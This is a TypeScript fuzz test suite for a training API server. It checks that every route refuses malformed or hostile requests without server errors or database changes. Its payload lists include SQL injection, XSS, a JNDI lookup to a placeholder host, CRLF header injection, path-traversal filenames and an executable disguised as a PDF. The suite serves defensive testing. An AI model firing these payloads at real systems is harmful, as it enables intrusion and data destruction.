import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ResultCode } from '../../src/contract/codes';
import { adminSecretHeader } from '../lib/serverInfo';
import { databaseDigest } from '../test/databaseDigest';
import { databasesUnderTest } from '../test/databases';
import { routeOperations, sampleOf, type JsonSchema, type RouteOperation } from '../test/routeTable';
import { freshIp, useTestContext } from '../test/testApp';

const adminSecret = 'fuzz-admin-secret-'.padEnd(43, 'x');
const uploadLimit = 64 * 1024;
const bodyLimit = 1024 * 1024;

/** Tables that legitimately record a refused attempt; every other table must hold the same rows after a route's run. */
const recordsOfRefusals: Record<string, string> = {
  throttle_hits: 'each refused sign-in, code or upload attempt counts against its limit',
  audit_log: 'every refused access and authentication event is logged',
};

/** Routes that act without any input: extra query parameters they ignore cannot be refused, so their change is expected. */
const actionsWithoutInput: Record<string, string> = {
  'GET /training-api/loginOut': 'signing out revokes the caller\'s session whatever the query says',
  'POST /training-api/user/endOtherSessions': "signing out everywhere else ends the caller's other sessions whatever the body says",
};

/** Routes the suite cannot yet hold to its rules (none today); printed on every run so they are not forgotten. */
const knownGaps: Record<string, string> = {};

/** Hostile inputs the suite leaves out, and why; printed on every run. */
const notTried = [
  // ZIP is an allowed material type and the server never unpacks an upload: a zip bomb is stored as an
  // opaque file (harmless to the server), and nothing yet refuses it for the people who download it.
  'zip bombs on the material uploads (accepted as opaque ZIP files, never unpacked on the server)',
];

const hostileTexts = [
  "' OR '1'='1' --",
  "'; drop table users; --",
  '"; select pg_sleep(5); --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '🧨👩‍👩‍👧‍👦🏳️‍🌈',
  '\u0000',
  'a\u0001\u0008\u001b[31mred\u007f',
  'line\r\nSet-Cookie: x=1',
  '\u202eevil\u200b',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '{{7*7}}${7*7}',
  '${jndi:ldap://example.test/a}',
  '\ud800',
  'x'.repeat(70_000),
];

const hostileText = fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }));

/** Arrays nested `depth` deep: `[[[…]]]`. */
const nested = (depth: number): unknown => {
  let value: unknown = [];
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
};

const anyValue = fc.oneof(
  hostileText,
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileText, { maxLength: 5 }),
  fc.dictionary(hostileText, hostileText, { maxKeys: 4 }),
  fc.constant(nested(2000)),
);

const typeOf = (schema: JsonSchema): string | undefined => {
  if (schema.enum || schema.const !== undefined) return 'enum';
  const alternative = schema.anyOf ?? schema.oneOf;
  if (alternative) return alternative.length === 1 && alternative[0] ? typeOf(alternative[0]) : 'mixed';
  return Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
};

/** Values no schema of this type accepts (null only where the type is not nullable). */
const wrongFor = (schema: JsonSchema): fc.Arbitrary<unknown> => {
  const nullable = Array.isArray(schema.type) && schema.type.includes('null');
  const nulls = nullable ? [] : [fc.constant(null)];
  const objects = fc.dictionary(hostileText, anyValue, { maxKeys: 3 });
  switch (typeOf(schema)) {
    case 'string':
      return fc.oneof(fc.integer(), fc.boolean(), fc.array(hostileText, { maxLength: 3 }), objects, fc.constant(nested(2000)), ...nulls);
    case 'number':
    case 'integer':
      return fc.oneof(hostileText.filter((text) => text.trim() === '' || Number.isNaN(Number(text))), fc.boolean(), objects, fc.constant([1]), ...nulls);
    case 'boolean':
      return fc.oneof(hostileText.filter((text) => !['true', 'false'].includes(text)), fc.integer({ min: 2 }), objects, ...nulls);
    case 'array':
      return fc.oneof(hostileText, fc.integer(), objects, fc.constant(nested(2000)).map((deep) => ({ deep })), ...nulls);
    case 'object':
      return fc.oneof(hostileText, fc.integer(), fc.array(anyValue, { maxLength: 3 }), fc.constant(nested(2000)), ...nulls);
    case 'enum':
      return fc.oneof(hostileText.filter((text) => !(schema.enum ?? [schema.const]).includes(text)), fc.integer({ min: 1000 }), objects);
    default:
      return fc.constant(Symbol('no wrong value'));
  }
};

/** A query value that no query schema of this type accepts (a query value is always text). */
const wrongQueryFor = (schema: JsonSchema): fc.Arbitrary<string> => {
  switch (typeOf(schema)) {
    case 'number':
    case 'integer':
      return fc.oneof(fc.constantFrom('NaN', '1e999', '12abc', "1' OR 1=1", '🧨', '0x1g'), hostileText.filter((text) => Number.isNaN(Number(text)) && text.trim() !== ''));
    case 'boolean':
      return fc.constantFrom('maybe', '2', '<b>', "' OR 1=1");
    case 'enum':
      return hostileText.filter((text) => !(schema.enum ?? [schema.const]).map(String).includes(text) && text !== '');
    default:
      // Any text fits a text field except one holding a NUL (refused everywhere as untypeable); a lone
      // surrogate would travel as invalid UTF-8, which the query parser keeps as its literal, NUL-free, text.
      return hostileText.map((text) => `${text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '')}\u0000`);
  }
};

type Hostile = { label: string; mustRefuse: boolean; request: { url: string; query?: Record<string, string>; headers: Record<string, string>; payload?: string | Buffer } };

/** Percent-encoding that sends a lone surrogate as the invalid UTF-8 it would be on the wire. */
const encodeSegment = (text: string) => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\uffff').split('\uffff').map(encodeURIComponent).join('%ED%A0%80');

const urlOf = (operation: RouteOperation, values: Record<string, string>) =>
  operation.path.replace(/\{(\w+)\}/g, (_, name: string) => encodeSegment(values[name] ?? ''));

const sampleParams = (operation: RouteOperation) => Object.fromEntries(Object.entries(operation.params).map(([name, schema]) => [name, String(sampleOf(schema))]));
const sampleQuery = (operation: RouteOperation) => Object.fromEntries(Object.entries(operation.query).map(([name, schema]) => [name, String(sampleOf(schema))]));

const extraFields = fc.dictionary(
  hostileText.map((key) => `x${key}`),
  anyValue,
  { maxKeys: 3 },
);

/** Bodies a JSON route must refuse: wrong types, missing required fields, not an object, not JSON, not JSON at all. */
const hostileJsonBody = (operation: RouteOperation, body: JsonSchema): fc.Arbitrary<Hostile> => {
  const url = urlOf(operation, sampleParams(operation));
  const query = sampleQuery(operation);
  const base = sampleOf(body) as Record<string, unknown>;
  const properties = Object.entries(body.properties ?? {}).filter(([, schema]) => typeOf(schema) !== undefined && typeOf(schema) !== 'mixed');
  const json = (payload: unknown, label: string): Hostile => ({ label, mustRefuse: true, request: { url, query, headers: { 'content-type': 'application/json' }, payload: JSON.stringify(payload) } });
  const choices: fc.Arbitrary<Hostile>[] = [
    wrongFor(body).map((payload) => json(payload, 'body of the wrong type')),
    fc.constantFrom('{', '{"a":', 'nul', "{'a':1}", '[1,]', '\u0000', '{"a":1}{"b":2}').map((payload) => ({ label: 'broken JSON', mustRefuse: true, request: { url, query, headers: { 'content-type': 'application/json' }, payload } })),
    fc
      .record({ type: fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-7'), payload: hostileText })
      .map(({ type, payload }) => ({ label: `content type ${type}`, mustRefuse: true, request: { url, query, headers: { 'content-type': type }, payload: payload || 'a=1' } })),
    fc.constant({ label: 'over the body limit', mustRefuse: true, request: { url, query, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ ...base, padding: 'x'.repeat(bodyLimit) }) } }),
  ];
  if (properties.length > 0) {
    choices.push(
      fc
        .record({ field: fc.constantFrom(...properties), extra: extraFields, texts: fc.array(hostileText, { minLength: properties.length, maxLength: properties.length }) })
        .chain(({ field: [name, schema], extra, texts }) =>
          wrongFor(schema).map((wrong) => {
            // Hostile text in every other text field, extra fields, and one field of the wrong type.
            const others = Object.fromEntries(properties.map(([other, otherSchema], index) => [other, typeOf(otherSchema) === 'string' ? texts[index] : base[other]]));
            return json({ ...extra, ...base, ...others, [name]: wrong }, `${name} of the wrong type`);
          }),
        ),
    );
  }
  const required = (body.required ?? []).filter((name) => name in base);
  if (required.length > 0) {
    choices.push(
      fc.record({ field: fc.constantFrom(...required), extra: extraFields }).map(({ field, extra }) => {
        const { [field]: _missing, ...rest } = base;
        return json({ ...extra, ...rest }, `${field} missing`);
      }),
    );
  }
  return fc.oneof(...choices);
};

/** Queries and path parameters a route must refuse: one value of the wrong type, the rest hostile or sample. */
const hostileQuery = (operation: RouteOperation): fc.Arbitrary<Hostile> | undefined => {
  const params = sampleParams(operation);
  const query = sampleQuery(operation);
  const fields = [...Object.entries(operation.query).map(([name, schema]) => ({ place: 'query' as const, name, schema })), ...Object.entries(operation.params).map(([name, schema]) => ({ place: 'path' as const, name, schema }))];
  if (fields.length === 0) return undefined;
  const body = operation.body ? sampleOf(operation.body) : undefined;
  return fc.record({ field: fc.constantFrom(...fields), extra: fc.dictionary(fc.constantFrom('extra', 'q[$ne]', '__proto__', 'constructor'), hostileText, { maxKeys: 2 }) }).chain(({ field, extra }) =>
    wrongQueryFor(field.schema).map((wrong) => ({
      label: `${field.name} (${field.place}) refused`,
      mustRefuse: true,
      request: {
        url: urlOf(operation, field.place === 'path' ? { ...params, [field.name]: wrong } : params),
        query: field.place === 'query' ? { ...extra, ...query, [field.name]: wrong } : { ...extra, ...query },
        headers: (body === undefined ? {} : { 'content-type': 'application/json' }) as Record<string, string>,
        ...(body === undefined ? {} : { payload: JSON.stringify(body) }),
      },
    })),
  );
};

/** Bodies that are no JSON at all, for routes that take none: they must be refused before the route runs. */
const hostileBodyless = (operation: RouteOperation): fc.Arbitrary<Hostile> => {
  const url = urlOf(operation, sampleParams(operation));
  const query = sampleQuery(operation);
  return fc.oneof(
    fc.constantFrom('{', '[1,]', "{'a':1}", '\u0000').map((payload) => ({ label: 'broken JSON', mustRefuse: true, request: { url, query, headers: { 'content-type': 'application/json' }, payload } })),
    fc.constantFrom('application/xml', 'text/html', 'application/octet-stream').map((type) => ({ label: `content type ${type}`, mustRefuse: true, request: { url, query, headers: { 'content-type': type }, payload: '<a>1</a>' } })),
    fc.constant({ label: 'over the body limit', mustRefuse: true, request: { url, query, headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ padding: 'x'.repeat(bodyLimit) }) } }),
  );
};

/** Extra query parameters on a route that reads none: ignored, but never a 5xx and never a changed row. */
const extraQuery = (operation: RouteOperation): fc.Arbitrary<Hostile> =>
  fc.dictionary(fc.constantFrom('q', 'id', 'page', '__proto__', 'a[b]'), hostileText.filter((text) => !text.includes('\u0000')), { minKeys: 1, maxKeys: 3 }).map((query) => ({
    label: 'extra query parameters',
    mustRefuse: false,
    request: { url: urlOf(operation, sampleParams(operation)), query, headers: {} },
  }));

const boundary = 'fuzzboundary7MA4YWxkTrZu0gW';
const multipartBody = (parts: { name: string; fileName?: string; type?: string; content: Buffer | string }[]) =>
  Buffer.concat([
    ...parts.flatMap((part) => [
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${part.fileName === undefined ? '' : `; filename="${part.fileName}"`}\r\n${part.type ? `Content-Type: ${part.type}\r\n` : ''}\r\n`,
      ),
      Buffer.isBuffer(part.content) ? part.content : Buffer.from(part.content),
      Buffer.from('\r\n'),
    ]),
    Buffer.from(`--${boundary}--\r\n`),
  ]);


/** Uploads a route must refuse: too large, a real type that is not allowed, traversal names, hostile fields, no file. */
const hostileUpload = (operation: RouteOperation): fc.Arbitrary<Hostile> => {
  const url = urlOf(operation, sampleParams(operation));
  const contents = fc.oneof(
    fc.constant({ label: 'over the upload limit', content: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(uploadLimit + 10, 0x20)]) }),
    fc.constant({ label: 'an executable named as a PDF', content: Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(200, 1)]) }),
    fc.constant({ label: 'HTML with a script', content: Buffer.from('<html><script>alert(1)</script></html>') }),
    fc.uint8Array({ minLength: 1, maxLength: 300 }).filter((bytes) => bytes[0] !== 0x25).map((bytes) => ({ label: 'random bytes', content: Buffer.from(bytes) })),
  );
  const names = fc.constantFrom('../../../etc/passwd.pdf', '..\\..\\boot.ini.pdf', '/etc/shadow.pdf', 'a\u0000.pdf', '<script>.pdf', 'résumé 🧨.pdf', 'x'.repeat(300) + '.pdf', '.pdf', 'file.pdf.exe', 'CON.pdf');
  return fc.oneof(
    fc.record({ body: contents, fileName: names, description: hostileText, language: fc.constantFrom('en', 'es', 'xx', '', "' OR 1=1") }).map(({ body, fileName, description, language }) => ({
      label: `upload: ${body.label}`,
      mustRefuse: true,
      request: {
        url,
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
        payload: multipartBody([
          { name: 'description', content: description.slice(0, 1500) || 'x' },
          { name: 'language', content: language },
          { name: 'file', fileName, type: 'application/pdf', content: body.content },
        ]),
      },
    })),
    fc.constant({ label: 'upload: fields and no file', mustRefuse: true, request: { url, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: multipartBody([{ name: 'description', content: 'x' }]) } }),
    fc.constant({ label: 'upload: a broken multipart body', mustRefuse: true, request: { url, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF` } }),
    fc.constant({ label: 'upload: JSON instead of multipart', mustRefuse: true, request: { url, headers: { 'content-type': 'application/json' }, payload: '{"file":"%PDF-1.7"}' } }),
  );
};

const hostileInputs = (operation: RouteOperation): fc.Arbitrary<Hostile> => {
  if (operation.consumes.some((type) => type.startsWith('multipart/'))) return hostileUpload(operation);
  const choices: fc.Arbitrary<Hostile>[] = [];
  const query = hostileQuery(operation);
  if (query) choices.push(query);
  if (operation.body) choices.push(hostileJsonBody(operation, operation.body));
  else if (operation.method !== 'GET') choices.push(hostileBodyless(operation));
  if (choices.length === 0) choices.push(extraQuery(operation));
  return fc.oneof(...choices);
};

const isEnvelope = (value: unknown): value is { code: number; message: string; result: unknown } =>
  typeof value === 'object' && value !== null && typeof (value as { code?: unknown }).code === 'number' && typeof (value as { message?: unknown }).message === 'string' && 'result' in value;

const withoutRefusalRecords = (digest: Record<string, string[]>) => Object.fromEntries(Object.entries(digest).filter(([table]) => !(table in recordsOfRefusals)));

/** Which routes of the route table a test file tries: those at even places, or at odd ones. */
export type RouteHalf = 'even' | 'odd';

/**
 * The fuzz of half of the routes on every database; each half has its own test file
 * (fuzzEvenRoutes.test.ts, fuzzOddRoutes.test.ts), so that two workers share the run.
 */
export const describeHostileInputs = (half: RouteHalf) =>
  describe.each(databasesUnderTest())(`hostile input on the routes at ${half} places of the route table, on $name`, ({ kind, name }) => {
    const ctx = useTestContext(kind, { app: { adminSecret }, config: { materialsMaxUploadBytes: uploadLimit } });
    // The same generators on both; the counts keep each half of the fuzz near a minute on a two-core machine.
    const numRuns = kind === 'pglite' ? 250 : 300;

    it('answers every hostile input with an envelope and a message, never a 5xx, and changes no row', async () => {
      const everyRoute = (await routeOperations(ctx().app)).filter((operation) => !(`${operation.method} ${operation.path}` in knownGaps));
      expect(everyRoute.length).toBeGreaterThan(50);
      expect(everyRoute.some((operation) => operation.consumes.includes('multipart/form-data'))).toBe(true);
      const operations = everyRoute.filter((_, place) => place % 2 === (half === 'even' ? 0 : 1));
      const adminUser = await ctx().signedInUser({ role: 'admin' });
      const learnerUser = await ctx().signedInUser();
      const started = Date.now();
      let inputs = 0;
      const labels = new Map<string, number>();
      for (const operation of operations) {
        const route = `${operation.method} ${operation.path}`;
        // Fresh sessions for each route: a sign-out route run before must not leave the next one signed out.
        const admin = await ctx().login(adminUser.user.account, adminUser.password, { ip: freshIp() });
        const learner = await ctx().login(learnerUser.user.account, learnerUser.password, { ip: freshIp() });
        const before = withoutRefusalRecords(await databaseDigest(ctx().db));
        await fc.assert(
          fc.asyncProperty(hostileInputs(operation), fc.constantFrom('admin', 'learner', 'nobody'), fc.constantFrom('en', 'es'), async (hostile, who, lang) => {
            inputs += 1;
            const kindOf = hostile.label.replace(/^\S+ \((query|path)\) refused$/, 'a $1 value refused').replace(/^\S+ (of the wrong type|missing)$/, 'a field $1');
            labels.set(kindOf, (labels.get(kindOf) ?? 0) + 1);
            const token = who === 'admin' ? admin.token : who === 'learner' ? learner.token : undefined;
            const { query, ...request } = hostile.request;
            const search = Object.entries(query ?? {}).map(([key, value]) => `${encodeSegment(key)}=${encodeSegment(value)}`).join('&');
            const response = await ctx().app.inject({
              method: operation.method,
              ...request,
              url: search ? `${request.url}?${search}` : request.url,
              headers: { ...hostile.request.headers, lang, [adminSecretHeader]: adminSecret, ...(token ? { authorization: `Bearer ${token}` } : {}) },
              remoteAddress: who === 'nobody' ? freshIp() : '127.0.0.1',
            });
            const where = `${route} as ${who}: ${hostile.label} → HTTP ${response.statusCode} ${response.body.slice(0, 300)}`;
            expect(response.statusCode, where).toBeLessThan(500);
            const json: unknown = String(response.headers['content-type'] ?? '').startsWith('application/json') ? JSON.parse(response.body) : undefined;
            const refused = response.statusCode >= 400 || (isEnvelope(json) && json.code !== ResultCode.success);
            if (hostile.mustRefuse) expect(refused, where).toBe(true);
            if (refused) {
              expect(isEnvelope(json), where).toBe(true);
              expect((json as { message: string }).message.trim(), where).not.toBe('');
            }
          }),
          { numRuns, endOnFailure: true },
        );
        if (!(route in actionsWithoutInput)) expect(withoutRefusalRecords(await databaseDigest(ctx().db)), `${route}: a row changed`).toEqual(before);
      }
      const seconds = ((Date.now() - started) / 1000).toFixed(1);
      console.log(
        [
          `fuzz on ${name}: ${operations.length} routes (${half} places of ${everyRoute.length}), ${inputs} hostile inputs in ${seconds} s`,
          `  kinds: ${[...labels.entries()].sort((a, b) => b[1] - a[1]).map(([label, count]) => `${label} ${count}`).join(', ')}`,
          `  tables allowed to change (records of refused attempts): ${Object.entries(recordsOfRefusals).map(([table, why]) => `${table} (${why})`).join('; ')}`,
          `  routes that act without input (no row rule): ${Object.entries(actionsWithoutInput).map(([route, why]) => `${route} (${why})`).join('; ')}`,
          `  not tried: ${notTried.join('; ')}`,
          `  known gaps: ${Object.keys(knownGaps).length === 0 ? 'none' : Object.entries(knownGaps).map(([route, why]) => `${route} (${why})`).join('; ')}`,
        ].join('\n'),
      );
    }, 600_000);

    // Not a route of the table: the even half tries it.
    if (half === 'even') it('answers a path parameter over the router limit and a malformed URL with the envelope', async () => {
      for (const url of [`/training-api/document/file/${'x'.repeat(300)}/en`, '/training-api/document/file/%E0%A4%A/en']) {
        const response = await ctx().app.inject({ method: 'GET', url, headers: { lang: 'es' } });
        expect(response.statusCode, url).toBeGreaterThanOrEqual(400);
        expect(response.statusCode, url).toBeLessThan(500);
        const body = response.json<{ code: number; message: string; result: unknown }>();
        expect(body, url).toEqual({ code: ResultCode.invalidInput, message: expect.stringMatching(/\S/), result: null });
      }
    });
  });
